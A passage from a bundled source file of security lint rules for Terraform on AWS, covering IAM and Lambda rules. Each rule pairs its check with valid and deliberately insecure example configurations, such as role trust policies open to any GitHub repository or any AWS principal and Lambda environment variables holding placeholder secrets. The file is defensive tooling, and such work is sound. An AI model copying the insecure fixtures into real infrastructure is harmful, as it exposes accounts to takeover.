    description: "The role's trust policy accepts `sts:AssumeRoleWithWebIdentity` from GitHub's OIDC provider (`token.actions.githubusercontent.com`) without a `sub` condition, or with one whose owner is a wildcard. Every GitHub Actions workflow of every repository on GitHub can obtain such a token, so anyone with a GitHub account can assume the role from their own workflow.",
    remediation: "Add a `StringEquals` (or narrow `StringLike`) condition on `token.actions.githubusercontent.com:sub` naming your repository and the branch or environment that deploys, e.g. `repo:acme/app:ref:refs/heads/main` or `repo:acme/app:environment:production`, and keep `token.actions.githubusercontent.com:aud` = `sts.amazonaws.com`.",
    precision: "very-high",
    cwe: ["CWE-284", "CWE-863"],
    tags: ["iam", "oidc", "github-actions", "public-access-policy"],
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-idp_oidc.html#idp_oidc_Create_GitHub"
    ]
  },
  check(role, { graph, report }) {
    const finding = githubTrustFinding(graph, role);
    if (finding?.trust.scope !== "any-repository") return;
    const subjects = finding.trust.subjects;
    const why = subjects.length === 0 ? "has no token.actions.githubusercontent.com:sub condition" : `accepts sub ${subjects.map((subject) => `"${subject}"`).join(", ")}`;
    report({ at: finding.at, message: `${role.name} trusts GitHub Actions OIDC tokens and ${why}: a workflow in any GitHub repository can assume it`, related: finding.related });
  },
  examples: {
    valid: [
      {
        name: "pinned to one repository's main branch",
        filename: "main.tf",
        code: `resource "aws_iam_role" "deploy" {
  name = "github-deploy"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = {
        StringEquals = {
          "token.actions.githubusercontent.com:aud" = "sts.amazonaws.com"
          "token.actions.githubusercontent.com:sub" = "repo:acme/app:ref:refs/heads/main"
        }
      }
    }]
  })
}
`
      },
      {
        name: "provider ARN and conditions that cannot be known statically",
        filename: "main.tf",
        code: `resource "aws_iam_role" "deploy" {
  name               = "github-deploy"
  assume_role_policy = var.trust_policy
}
`
      }
    ],
    invalid: [
      {
        name: "audience checked, subject not",
        filename: "main.tf",
        code: `resource "aws_iam_role" "deploy" {
  name = "github-deploy"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringEquals = { "token.actions.githubusercontent.com:aud" = "sts.amazonaws.com" } }
    }]
  })
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "has no token.actions.githubusercontent.com:sub condition" }]
      },
      {
        name: "policy document data source with a wildcard owner",
        filename: "main.tf",
        code: `data "aws_iam_policy_document" "github_trust" {
  statement {
    actions = ["sts:AssumeRoleWithWebIdentity"]
    principals {
      type        = "Federated"
      identifiers = [aws_iam_openid_connect_provider.github.arn]
    }
    condition {
      test     = "StringLike"
      variable = "token.actions.githubusercontent.com:sub"
      values   = ["repo:*/infrastructure:*"]
    }
  }
}

resource "aws_iam_role" "deploy" {
  name               = "github-deploy"
  assume_role_policy = data.aws_iam_policy_document.github_trust.json
}
`,
        errors: [{ line: 18, column: 3, messageIncludes: '"repo:*/infrastructure:*"' }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-role-github-oidc-wildcard-subject.ts
var WHO = {
  "any-repository-of-owner": "any workflow of any repository of the owner",
  "any-ref": "any branch, tag, pull request or environment of the repository",
  "any-branch": "any branch of the repository, including ones pushed without review"
};
var aws_iam_role_github_oidc_wildcard_subject_default = defineRule({
  meta: {
    id: "aws-iam-role-github-oidc-wildcard-subject",
    title: "IAM role trusts GitHub Actions OIDC tokens of any branch or any repository of an owner",
    severity: "medium",
    category: "iam",
    platforms: ["terraform", "github-actions"],
    resourceTypes: ["aws_iam_role"],
    description: "The role's trust policy accepts GitHub OIDC tokens whose `sub` matches a wildcard such as `repo:acme/*`, `repo:acme/app:*` or `repo:acme/app:ref:refs/heads/*`. Anyone who can push a branch (or create a repository in the organisation) can then run a workflow that assumes the role, without the review and branch protection that guard the deploying branch.",
    remediation: "Name the branch or, better, a protected GitHub environment in the condition: `repo:acme/app:ref:refs/heads/main` or `repo:acme/app:environment:production` with `StringEquals`. Give pull-request workflows a separate read-only role.",
    precision: "high",
    cwe: ["CWE-284", "CWE-863"],
    tags: ["iam", "oidc", "github-actions", "public-access-policy"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect#example-subject-claims"]
  },
  check(role, { graph, report }) {
    const finding = githubTrustFinding(graph, role);
    const who = finding && WHO[finding.trust.scope];
    if (!finding || !who) return;
    const subjects = finding.trust.subjects.map((subject) => `"${subject}"`).join(", ");
    report({ at: finding.at, message: `${role.name} trusts GitHub OIDC sub ${subjects}: ${who} can assume it`, related: finding.related });
  },
  examples: {
    valid: [
      {
        name: "a protected environment",
        filename: "main.tf",
        code: `resource "aws_iam_role" "deploy" {
  name = "github-deploy"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = {
        StringEquals = {
          "token.actions.githubusercontent.com:aud" = "sts.amazonaws.com"
          "token.actions.githubusercontent.com:sub" = "repo:acme/app:environment:production"
        }
      }
    }]
  })
}
`
      },
      {
        name: "release tags only",
        filename: "main.tf",
        code: `resource "aws_iam_role" "publish" {
  name = "github-publish"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:ref:refs/tags/v*" } }
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: "any ref of the repository, assumed by a workflow",
        filename: "iam.tf",
        code: `resource "aws_iam_role" "deploy" {
  name = "github-deploy"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:*" } }
    }]
  })
}
`,
        extraFiles: {
          ".github/workflows/deploy.yml": `on: push
permissions:
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-deploy
          aws-region: eu-west-1
`
        },
        errors: [{ file: "iam.tf", line: 3, column: 3, messageIncludes: "any branch, tag, pull request or environment" }]
      },
      {
        name: "every repository of the organisation",
        filename: "main.tf",
        code: `resource "aws_iam_role" "deploy" {
  name = "github-deploy"
  assume_role_policy = <<EOF
{
  "Statement": [{
    "Effect": "Allow",
    "Action": "sts:AssumeRoleWithWebIdentity",
    "Principal": { "Federated": "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" },
    "Condition": { "StringLike": { "token.actions.githubusercontent.com:sub": ["repo:acme/*"] } }
  }]
}
EOF
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "any workflow of any repository of the owner" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-role-trust-any-principal.ts
var aws_iam_role_trust_any_principal_default = defineRule({
  meta: {
    id: "aws-iam-role-trust-any-principal",
    title: 'IAM role trust policy allows any principal (Principal "*") to assume the role',
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_role"],
    description: 'The role\'s trust policy (`assume_role_policy`) allows `sts:AssumeRole` to `Principal: "*"` or `AWS: "*"` with no condition naming an account, organisation or source. Any identity in any AWS account can then assume the role and act with its permissions.',
    remediation: "Name the accounts, roles or services that may assume the role in `Principal`, or add a condition such as `aws:PrincipalOrgID` or `aws:PrincipalArn`. For third parties, name their account and require `sts:ExternalId`.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["iam", "trust-policy", "public-access-policy", "assume-role"],
    references: [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_principal.html#principal-anonymous",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_terms-and-concepts.html#term_trust-policy"
    ]
  },
  check(role, { graph, report }) {
    const policy = policyAt(graph, role, ["assume_role_policy"]);
    for (const statement of policy?.statements ?? []) {
      if (!allowsAnyone(statement)) continue;
      if (!statement.actions.some((action) => actionMatches(action, "sts:AssumeRole"))) continue;
      report({
        at: policy.at,
        message: `${role.name}: trust policy ${statementLabel(statement)} lets any principal (Principal "*") assume the role, with no condition`,
        related: policy.related(statement)
      });
    }
  },
  examples: {
    valid: [
      {
        name: "a service principal",
        filename: "main.tf",
        code: `resource "aws_iam_role" "worker" {
  name = "worker"
  assume_role_policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } }]
  })
}
`
      },
      {
        name: "any principal of the organisation",
        filename: "main.tf",
        code: `resource "aws_iam_role" "audit" {
  name = "audit"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRole"
      Principal = { AWS = "*" }
      Condition = { StringEquals = { "aws:PrincipalOrgID" = "o-a1b2c3d4e5" } }
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: 'AWS = "*" in a heredoc',
        filename: "main.tf",
        code: `resource "aws_iam_role" "shared" {
  name = "shared"

  assume_role_policy = <<POLICY
{
  "Version": "2012-10-17",
  "Statement": [
    { "Effect": "Allow", "Action": "sts:AssumeRole", "Principal": { "AWS": "*" } }
  ]
}
POLICY
}
`,
        errors: [{ line: 4, column: 3 }]
      },
      {
        name: 'policy document with type "*"',
        filename: "main.tf",
        code: `data "aws_iam_policy_document" "trust" {
  statement {
    actions = ["sts:AssumeRole"]
    principals {
      type        = "*"
      identifiers = ["*"]
    }
  }
}

resource "aws_iam_role" "open" {
  name               = "open"
  assume_role_policy = data.aws_iam_policy_document.trust.json
}
`,
        errors: [{ line: 13, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-user-access-key.ts
var aws_iam_user_access_key_default = defineRule({
  meta: {
    id: "aws-iam-user-access-key",
    title: "Long-lived IAM user access key created in Terraform",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_access_key"],
    description: "The configuration creates an access key for an IAM user: a credential that never expires on its own, ends up in CI variables and laptops, and is the most common way AWS accounts are breached. Terraform also keeps the secret in its state, in clear text unless a PGP key encrypts it.",
    remediation: "Give workloads roles instead: instance profiles, IRSA or EKS Pod Identity, GitHub OIDC federation, IAM Roles Anywhere. If a key is unavoidable, set `pgp_key`, rotate it at least every 90 days and alert on its use.",
    precision: "very-high",
    cwe: ["CWE-798"],
    frameworks: { "CIS AWS Foundations 3.0": ["1.14"] },
    tags: ["iam", "iam-user", "access-key", "long-lived-credentials"],
    references: [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_access_key"
    ]
  },
  check(key, { report }) {
    if (key.attributes.status === "Inactive") return;
    const inState = isUnset(key.attributes.pgp_key) ? "; its secret is stored unencrypted in the Terraform state" : "";
    report({ message: `${key.name} creates a long-lived access key for an IAM user${inState}` });
  },
  examples: {
    valid: [
      {
        name: "a deactivated key",
        filename: "main.tf",
        code: `resource "aws_iam_access_key" "legacy" {
  user   = aws_iam_user.legacy.name
  status = "Inactive"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_user" "ci" {
  name = "ci"
}

resource "aws_iam_access_key" "ci" {
  user = aws_iam_user.ci.name
}
`,
        errors: [{ line: 5, column: 1, messageIncludes: "unencrypted in the Terraform state" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-user-direct-policy.ts
var aws_iam_user_direct_policy_default = defineRule({
  meta: {
    id: "aws-iam-user-direct-policy",
    title: "IAM policy attached directly to a user",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_user_policy", "aws_iam_user_policy_attachment", "aws_iam_policy_attachment"],
    description: "The policy is attached to an IAM user instead of a group or role. Permissions granted user by user drift apart, are forgotten when people change teams, and are hard to review; IAM users themselves mean long-lived credentials.",
    remediation: "Attach policies to IAM groups and add users to the groups, or better, replace IAM users with IAM Identity Center users and roles that workloads assume.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS AWS Foundations 3.0": ["1.15"] },
    tags: ["iam", "iam-user", "user-policy"],
    references: ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_groups_manage_attach-policy.html"]
  },
  check(resource, { report }) {
    if (resource.type !== "aws_iam_policy_attachment") {
      const kind = resource.type === "aws_iam_user_policy" ? "an inline policy" : "a managed policy";
      report({ at: ["user"], message: `${resource.name} gives ${kind} directly to an IAM user instead of a group or role` });
      return;
    }
    const users = resource.attributes.users;
    if (isUnknown(users) || !Array.isArray(users) || users.length === 0) return;
    report({ at: ["users"], message: `${resource.name} attaches the policy directly to ${users.length === 1 ? "an IAM user" : `${users.length} IAM users`} instead of a group or role` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_group_policy_attachment" "developers" {
  group      = aws_iam_group.developers.name
  policy_arn = aws_iam_policy.developer.arn
}

resource "aws_iam_policy_attachment" "readers" {
  name       = "readers"
  groups     = [aws_iam_group.readers.name]
  roles      = [aws_iam_role.reporting.name]
  policy_arn = aws_iam_policy.read_reports.arn
}
`
      }
    ],
    invalid: [
      {
        name: "inline user policy",
        filename: "main.tf",
        code: `resource "aws_iam_user_policy" "deploy" {
  name   = "deploy"
  user   = aws_iam_user.deploy.name
  policy = data.aws_iam_policy_document.deploy.json
}
`,
        errors: [{ line: 3, column: 3 }]
      },
      {
        name: "policy attachment with users",
        filename: "main.tf",
        code: `resource "aws_iam_policy_attachment" "billing" {
  name       = "billing"
  users      = [aws_iam_user.alice.name, "bob"]
  policy_arn = "arn:aws:iam::aws:policy/job-function/Billing"
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "2 IAM users" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-kms-key-policy-any-principal.ts
var aws_kms_key_policy_any_principal_default = defineRule({
  meta: {
    id: "aws-kms-key-policy-any-principal",
    title: 'KMS key policy allows any principal (Principal "*")',
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_kms_key", "aws_kms_key_policy"],
    description: 'The key policy allows `Principal: "*"` with no condition naming an account, organisation or calling service. Anyone in any AWS account can use the key as the statement allows: decrypt what it protects, encrypt with it, or manage it.',
    remediation: "Name the account root (`arn:aws:iam::<account>:root`) and the roles that use the key, or narrow the statement with `kms:CallerAccount` and `kms:ViaService` (or `aws:PrincipalOrgID`).",
    precision: "high",
    cwe: ["CWE-732"],
    tags: ["kms", "key-policy", "public-access-policy"],
    references: [
      "https://docs.aws.amazon.com/kms/latest/developerguide/key-policies.html",
      "https://docs.aws.amazon.com/kms/latest/developerguide/conditions-kms.html#conditions-kms-caller-account"
    ]
  },
  check(key, { graph, report }) {
    const policy = policyAt(graph, key, ["policy"]);
    for (const statement of policy?.statements ?? []) {
      if (!allowsAnyone(statement)) continue;
      report({
        at: policy.at,
        message: `${key.name}: key policy ${statementLabel(statement)} allows any principal (Principal "*") to ${actionsText(statement)}`,
        related: policy.related(statement)
      });
    }
  },
  examples: {
    valid: [
      {
        name: "any principal, but only through EBS in this account",
        filename: "main.tf",
        code: `resource "aws_kms_key" "ebs" {
  description         = "ebs"
  enable_key_rotation = true
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      { Sid = "Admin", Effect = "Allow", Principal = { AWS = "arn:aws:iam::123456789012:root" }, Action = "kms:*", Resource = "*" },
      {
        Sid       = "ViaEbs"
        Effect    = "Allow"
        Principal = { AWS = "*" }
        Action    = ["kms:Encrypt", "kms:Decrypt", "kms:GenerateDataKey*"]
        Resource  = "*"
        Condition = { StringEquals = { "kms:CallerAccount" = "123456789012", "kms:ViaService" = "ec2.eu-west-1.amazonaws.com" } }
      }
    ]
  })
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_kms_key_policy" "exports" {
  key_id = aws_kms_key.exports.id
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Sid = "Everyone", Effect = "Allow", Principal = "*", Action = "kms:Decrypt", Resource = "*" }]
  })
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: 'statement "Everyone" allows any principal (Principal "*") to kms:Decrypt' }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-lambda-environment-hardcoded-secret.ts
var aws_lambda_environment_hardcoded_secret_default = defineRule({
  meta: {
    id: "aws-lambda-environment-hardcoded-secret",
    title: "Hardcoded secret (access key, password, token) in Lambda environment variables",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_lambda_function"],
    description: "An environment variable of the function holds a literal credential: its name says password, secret, token or key, or its value is an AWS access key or a private key. Environment variables are shown in the console and returned by `GetFunctionConfiguration` to anyone with read access, and the value sits in the repository and the Terraform state.",
    remediation: "Use the function's execution role instead of access keys. Keep other secrets in AWS Secrets Manager or SSM Parameter Store and read them at run time (the AWS Parameters and Secrets Lambda extension caches them); put only the secret's name or ARN in the environment.",
    precision: "high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "lambda", "environment-variables"],
    references: [
      "https://docs.aws.amazon.com/lambda/latest/dg/configuration-envvars.html#configuration-envvars-encryption",
      "https://docs.aws.amazon.com/secretsmanager/latest/userguide/retrieving-secrets_lambda.html"
    ]
  },
  check(lambda, { report }) {
    asList(lambda.attributes.environment).forEach((environment, index) => {
      if (!isObject(environment) || !isObject(environment.variables)) return;
      for (const [name, value] of Object.entries(environment.variables)) {
        if (!isHardcodedSecretValue(value)) continue;
        const kinds = secretsInText(value).filter((kind) => kind !== "a password");
        if (kinds.length === 0 && !isSecretName(name)) continue;
        const what = kinds.length > 0 ? kinds.join(", ") : "a hardcoded secret";
        report({ at: ["environment", index, "variables", name], message: `${lambda.name}: environment variable ${name} holds ${what}` });
      }
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_function" "billing" {
  function_name = "billing"
  role          = aws_iam_role.billing.arn
  runtime       = "python3.12"
  handler       = "app.handler"
  filename      = "billing.zip"

  environment {
    variables = {
      STRIPE_KEY_SECRET_ARN = aws_secretsmanager_secret.stripe.arn
      LOG_LEVEL             = "info"
      TOKEN_TTL_SECONDS     = "900"
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_function" "billing" {
  function_name = "billing"
  role          = aws_iam_role.billing.arn
  runtime       = "python3.12"
  handler       = "app.handler"
  filename      = "billing.zip"

  environment {
    variables = {
      LOG_LEVEL        = "info"
      STRIPE_API_TOKEN = "sk_live_51HdLq2Cj8aZ0vW"
      UPLOAD_KEY_ID    = "AKIA2E0A8F3B244C9986"
    }
  }
}
`,
        errors: [
          { line: 11, column: 7, messageIncludes: "STRIPE_API_TOKEN holds a hardcoded secret" },
          { line: 12, column: 7, messageIncludes: "an AWS access key ID" }
        ]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-lambda-function-admin-role.ts
var aws_lambda_function_admin_role_default = defineRule({
  meta: {
    id: "aws-lambda-function-admin-role",
    title: "Lambda function runs with an administrator role",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_lambda_function"],
    description: "The function's execution role is an administrator of the account (AdministratorAccess, IAMFullAccess, or a policy allowing `*` or `iam:*` on every resource). Any flaw in the function's code or dependencies, such as an injection, a server-side request forgery or a poisoned package, then hands the attacker the whole account, not just what the function needs.",
    remediation: "Give each function its own role with only the actions and resources it uses (for example `dynamodb:PutItem` on one table, plus `AWSLambdaBasicExecutionRole` for logs).",
    precision: "high",
    cwe: ["CWE-250", "CWE-269"],
    tags: ["lambda", "iam", "iam-wildcard", "least-privilege"],
    references: ["https://docs.aws.amazon.com/lambda/latest/dg/lambda-intro-execution-role.html"]
  },
  check(lambda, { graph, report }) {
    const [admin] = adminRolesDesignatedBy(graph, lambda, ["role"]);
    if (!admin) return;
    report({
      at: ["role"],
      message: `${lambda.name} runs as ${admin.role.name}, an administrator role through ${describeAdminGrants(admin.grants)}`,
      related: adminRoleRelated(admin)
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_role" "exporter" {
  name               = "exporter"
  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "lambda.amazonaws.com" } }] })
}

resource "aws_iam_role_policy_attachment" "exporter_logs" {
  role       = aws_iam_role.exporter.name
  policy_arn = "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"
}

resource "aws_lambda_function" "exporter" {
  function_name = "exporter"
  role          = aws_iam_role.exporter.arn
  runtime       = "python3.12"
  handler       = "main.handler"
  filename      = "exporter.zip"
}
`
      }
    ],
    invalid: [
      {
        name: "AdministratorAccess attached in another file",
        filename: "lambda.tf",
        code: `resource "aws_lambda_function" "exporter" {
  function_name = "exporter"
  role          = aws_iam_role.exporter.arn
  runtime       = "python3.12"
  handler       = "main.handler"
  filename      = "exporter.zip"
}
`,
        extraFiles: {
          "iam.tf": `resource "aws_iam_role" "exporter" {
  name               = "exporter"
  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "lambda.amazonaws.com" } }] })
}

resource "aws_iam_role_policy_attachment" "exporter_admin" {
  role       = aws_iam_role.exporter.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
`
        },
        errors: [{ file: "lambda.tf", line: 3, column: 3, messageIncludes: "AdministratorAccess" }]
      },
      {
        name: "inline policy with iam:* on every resource",
        filename: "main.tf",
        code: `resource "aws_iam_role" "rotator" {
  name               = "rotator"
  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "lambda.amazonaws.com" } }] })
  inline_policy {
    name   = "rotate"
    policy = jsonencode({ Statement = [{ Effect = "Allow", Action = ["iam:*"], Resource = "*" }] })
  }
}

resource "aws_lambda_function" "rotator" {
  function_name = "rotator"
  role          = aws_iam_role.rotator.arn
  runtime       = "python3.12"
  handler       = "main.handler"
  filename      = "rotator.zip"
}
`,
        errors: [{ line: 12, column: 3, messageIncludes: '"iam:*" on every resource' }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-lambda-function-url-unauthenticated.ts
var aws_lambda_function_url_unauthenticated_default = defineRule({
  meta: {
    id: "aws-lambda-function-url-unauthenticated",
    title: "Lambda function URL is publicly accessible without authentication (authorization_type NONE)",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_lambda_function_url"],
    description: 'The function URL uses `authorization_type = "NONE"`: anyone on the internet who learns the URL can invoke the function, as often as they like, with whatever input they choose. Unless the function authenticates callers itself, its data and its execution role are exposed, and its cost is in the caller\'s hands.',
    remediation: 'Use `authorization_type = "AWS_IAM"` and sign requests (CloudFront with origin access control can sign for browsers), or put the function behind API Gateway with an authorizer; if it must be public, verify a signature or token in the handler and set reserved concurrency.',
    precision: "medium",
    cwe: ["CWE-306"],
    tags: ["lambda", "function-url", "public-access-policy", "authentication"],
    references: ["https://docs.aws.amazon.com/lambda/latest/dg/urls-auth.html"]
  },
  check(url, { report }) {
    if (url.attributes.authorization_type !== "NONE") return;
    report({ at: ["authorization_type"], message: `${url.name}: the function URL is publicly accessible to anyone without authentication (authorization_type = "NONE")` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_function_url" "reports" {
  function_name      = aws_lambda_function.reports.function_name
  authorization_type = "AWS_IAM"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_function_url" "reports" {
  function_name      = aws_lambda_function.reports.function_name
  authorization_type = "NONE"
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-lambda-permission-any-principal.ts
var aws_lambda_permission_any_principal_default = defineRule({
  meta: {
    id: "aws-lambda-permission-any-principal",
    title: 'Lambda permission grants access to any principal (principal "*")',
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_lambda_permission", "aws_lambda_layer_version_permission"],
    description: "The function's resource policy (or the layer's) grants its action to `principal = \"*\"` with no `source_arn`, `source_account` or organisation limit. Any AWS account, and for function URLs anyone on the internet, can invoke the function or download the layer's code.",
    remediation: "Set `principal` to the service or account that calls the function (`events.amazonaws.com`, `s3.amazonaws.com`, an account id) and add `source_arn` and `source_account`; share layers with named accounts or `organization_id`.",
    precision: "high",
    cwe: ["CWE-732"],
    tags: ["lambda", "resource-policy", "public-access-policy"],
    references: [
      "https://docs.aws.amazon.com/lambda/latest/dg/access-control-resource-based.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_permission"
    ]
  },
  check(permission, { report }) {
    const { attributes } = permission;
    if (attributes.principal !== "*") return;
    if (permission.type === "aws_lambda_layer_version_permission") {
      if (!isUnset(attributes.organization_id)) return;
      report({ at: ["principal"], message: `${permission.name} shares the layer with any AWS account (principal "*")` });
      return;
    }
    const narrowed = ["source_arn", "source_account", "principal_org_id"].some((key) => !isUnset(attributes[key]));
    if (narrowed) return;
    const action = typeof attributes.action === "string" ? attributes.action : "access";
    report({ at: ["principal"], message: `${permission.name} grants ${action} to any principal (principal "*") with no source_arn, source_account or principal_org_id` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_lambda_permission" "from_s3" {
  statement_id   = "AllowFromUploads"
  action         = "lambda:InvokeFunction"
  function_name  = aws_lambda_function.thumbnail.function_name
  principal      = "s3.amazonaws.com"
  source_arn     = aws_s3_bucket.uploads.arn
  source_account = "123456789012"
}
`
      }
    ],
    invalid: [
      {
        name: "function",
        filename: "main.tf",
        code: `resource "aws_lambda_permission" "public" {
  statement_id  = "AllowAnyone"
  action        = "lambda:InvokeFunction"
  function_name = aws_lambda_function.thumbnail.function_name
  principal     = "*"
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "lambda:InvokeFunction" }]
      },
      {
        name: "layer",
        filename: "main.tf",
        code: `resource "aws_lambda_layer_version_permission" "shared" {
  layer_name     = aws_lambda_layer_version.common.layer_arn
  version_number = aws_lambda_layer_version.common.version
  statement_id   = "everyone"
  action         = "lambda:GetLayerVersion"
  principal      = "*"
}
`,
        errors: [{ line: 6, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-neptune-iam-authentication-disabled.ts
var aws_neptune_iam_authentication_disabled_default = defineRule({
  meta: {
    id: "aws-neptune-iam-authentication-disabled",
    title: "Neptune cluster does not use IAM database authentication",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_neptune_cluster"],
    description: "Without IAM database authentication, clients reach the graph database with network access alone: there is no per-principal authentication, no short-lived credentials and no CloudTrail record of who connected.",
    remediation: "Set `iam_database_authentication_enabled = true` and grant clients `neptune-db:connect` on the cluster through IAM policies.",
    precision: "high",
    cwe: ["CWE-287"],
    tags: ["neptune", "authn-config", "authentication"],
    references: ["https://docs.aws.amazon.com/neptune/latest/userguide/iam-auth.html"]
  },
  check(cluster, { report }) {
    const enabled = cluster.attributes.iam_database_authentication_enabled;
    if (enabled === true || isUnknown(enabled)) return;
    if (enabled === void 0 || enabled === null) {
      report({ message: `Neptune cluster ${cluster.name} does not enable IAM database authentication` });
    } else {
      report({ at: ["iam_database_authentication_enabled"], message: `Neptune cluster ${cluster.name} turns IAM database authentication off` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_neptune_cluster" "graph" {
  cluster_identifier                  = "graph"
  storage_encrypted                   = true
  iam_database_authentication_enabled = true
}
`
      }
    ],
    invalid: [
      {
        name: "explicitly off",
        filename: "main.tf",
        code: `resource "aws_neptune_cluster" "graph" {
  cluster_identifier                  = "graph"
  iam_database_authentication_enabled = false
}
`,
        errors: [{ line: 3, column: 3 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_neptune_cluster" "graph" {
  cluster_identifier = "graph"
  storage_encrypted  = true
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/support/opensearch.ts
var SEARCH_DOMAIN_TYPES = ["aws_opensearch_domain", "aws_elasticsearch_domain"];
function domainKind(resource) {
  return resource.type === "aws_elasticsearch_domain" ? "Elasticsearch domain" : "OpenSearch domain";
}
function isInVpc(domain) {
  const options = singleBlock(domain.attributes, "vpc_options");
  if (options === "unknown") return void 0;
  if (!options) return false;
  const subnets = options.block.subnet_ids;
  if (isUnknown(subnets)) return void 0;
  return Array.isArray(subnets) ? subnets.length > 0 : subnets !== void 0 && subnets !== null;
}

// packages/rules/src/terraform/iam/aws-opensearch-domain-policy-public.ts
var POLICY_TYPES = ["aws_opensearch_domain_policy", "aws_elasticsearch_domain_policy"];
